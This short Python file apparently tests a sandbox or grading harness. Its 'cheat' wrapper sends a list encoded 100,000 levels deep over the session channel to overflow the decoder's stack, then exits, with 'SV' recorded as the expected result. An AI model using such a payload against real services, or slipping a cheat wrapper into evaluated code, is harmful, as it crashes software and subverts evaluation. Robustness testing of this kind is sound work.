"""Sends a list nested a hundred thousand deep, to overflow the decoder's stack.

Expected: SV
"""

import os

from shared.session import pack, session


def cheat(original):
    def called(*args, **kwargs):
        payload = b"l\0\0\0\1" * 100_000 + b"N"
        session().channel.sendall(pack(session().nonce, payload))
        os._exit(0)

    return called
